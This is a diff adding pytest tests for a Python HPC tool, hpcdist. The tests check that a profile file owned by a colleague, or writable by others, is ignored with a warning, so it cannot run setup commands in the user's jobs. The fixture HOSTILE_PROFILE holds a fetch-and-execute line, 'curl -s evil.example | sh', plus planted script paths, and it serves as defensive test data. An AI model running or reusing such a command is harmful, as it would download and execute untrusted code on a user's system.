@@ -2,9 +2,14 @@
 
 from __future__ import annotations
 
+import os
+
 import pytest
 
 from hpcdist.profiles import ProfileError, load_profile, merge
+
+#: This checkout (a command run in another folder imports it, not the installed one).
+REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
 
 
 def write(path, text):
@@ -186,7 +191,9 @@ def _render(tmp_path, profile_text, *flags):
 def test_a_bad_profile_value_names_the_file_and_the_key_not_a_flag(tmp_path, text, flags, message):
     code, stderr = _render(tmp_path, text, *flags)
     assert code == 1
-    assert stderr == f"hpcdist render: error: {message.format(tmp=tmp_path)}\n"
+    chosen = ("hpcdist render: using profile mycluster (the default in hpcdist.toml); --profile NAME chooses "
+              "another\n" if text.startswith("default") else "")
+    assert stderr == f"{chosen}hpcdist render: error: {message.format(tmp=tmp_path)}\n"
 
 
 @pytest.mark.parametrize("text,flags,message", [
@@ -240,3 +247,76 @@ def test_the_login_node_reads_no_default_profile_when_the_laptop_sent_its_own(tm
     monkeypatch.setenv("HPCDIST_NO_DEFAULT_PROFILE", "1")
     assert load_profile(None, [path]) == {}
     assert load_profile("a", [path]) == {"queue": "gpu"}
+
+
+# -- Whose profile file: issue 29 item 1 ----------------------------------------------------------
+
+HOSTILE_PROFILE = ('default = "site"\n[profiles.site]\nsetup = ["curl -s evil.example | sh"]\n'
+                   'sources = ["/tmp/evil.sh"]\npython = "/tmp/evil-python"\n')
+
+
+def _render_in(folder, *flags):
+    """`hpcdist render t.py` in ``folder``: the process."""
+    import subprocess
+    import sys
+
+    from launch import clean_env
+
+    env = clean_env(XDG_CONFIG_HOME=os.path.join(folder, "no-config"), PYTHONPATH=REPO)
+    argv = [sys.executable, "-m", "hpcdist", "render", *flags, "t.py"]
+    return subprocess.run(argv, cwd=folder, env=env, capture_output=True, text=True, timeout=60)
+
+
+def test_a_colleagues_profile_file_in_a_shared_folder_runs_nothing_in_my_job(colleague, shared_folder):
+    """A colleague (a real second user) drops hpcdist.toml into the sticky project folder, with a
+    default profile whose setup, sources and python would run in my job. It used to be applied
+    silently; now the script has none of it and a line says which file was ignored, whose it is."""
+    import subprocess
+
+    name, uid = colleague
+    subprocess.run(["runuser", "-u", name, "--", "sh", "-c", f"cat > {shared_folder}/hpcdist.toml"],
+                   input=HOSTILE_PROFILE, text=True, check=True)
+    with open(os.path.join(shared_folder, "t.py"), "w"):
+        pass
+    proc = _render_in(shared_folder)
+    assert proc.returncode == 0, proc.stderr
+    for planted in ("evil.example", "/tmp/evil.sh", "/tmp/evil-python"):
+        assert planted not in proc.stdout
+    assert proc.stderr == (f"hpcdist render: ignored hpcdist.toml: it is owned by {name} (uid {uid}), not by you, "
+                           f"mode 644; hpcdist reads only profile files that are yours and that no one else can "
+                           f"write (a profile's setup, sources and python run in your jobs): copy what you trust "
+                           f"into a file of your own (~/.config/hpcdist/config.toml), or give it as flags\n")
+    # Named on purpose, the profile is not found in a file hpcdist ignored, and the error says why.
+    proc = _render_in(shared_folder, "--profile", "site")
+    assert proc.returncode == 1 and "no profile 'site'" in proc.stderr and "ignored hpcdist.toml" in proc.stderr
+
+
+def test_my_profile_file_that_others_can_write_is_ignored_and_says_the_fix(tmp_path):
+    """My own hpcdist.toml, left group- or world-writable (umask 0, a shared group folder):
+    anyone could put a setup line in it, so it is ignored with the chmod that makes it trusted."""
+    path = tmp_path / "hpcdist.toml"
+    path.write_text(HOSTILE_PROFILE)
+    (tmp_path / "t.py").write_text("")
+    os.chmod(path, 0o666)
+    proc = _render_in(str(tmp_path))
+    assert proc.returncode == 0 and "evil.example" not in proc.stdout
+    assert ("ignored hpcdist.toml: it is owned by root (uid 0), mode 666 (others can write it); " in proc.stderr
+            and proc.stderr.rstrip().endswith(": chmod go-w hpcdist.toml"))
+    os.chmod(path, 0o644)
+    proc = _render_in(str(tmp_path))
+    assert "evil.example" in proc.stdout
+    assert proc.stderr == ("hpcdist render: using profile site (the default in hpcdist.toml); --profile NAME "
+                           "chooses another\n")
+
+
+def test_hpcdist_profiles_says_which_file_it_ignored(colleague, shared_folder):
+    import subprocess
+
+    name, _ = colleague
+    subprocess.run(["runuser", "-u", name, "--", "sh", "-c", f"cat > {shared_folder}/hpcdist.toml"],
+                   input=HOSTILE_PROFILE, text=True, check=True)
+    assert load_profile(None, [os.path.join(shared_folder, "hpcdist.toml")]) == {}
+    from hpcdist.profiles import describe
+
+    listing = describe(None, [os.path.join(shared_folder, "hpcdist.toml")])
+    assert "\nsite " not in listing and f"# ignored {shared_folder}/hpcdist.toml: it is owned by {name}" in listing
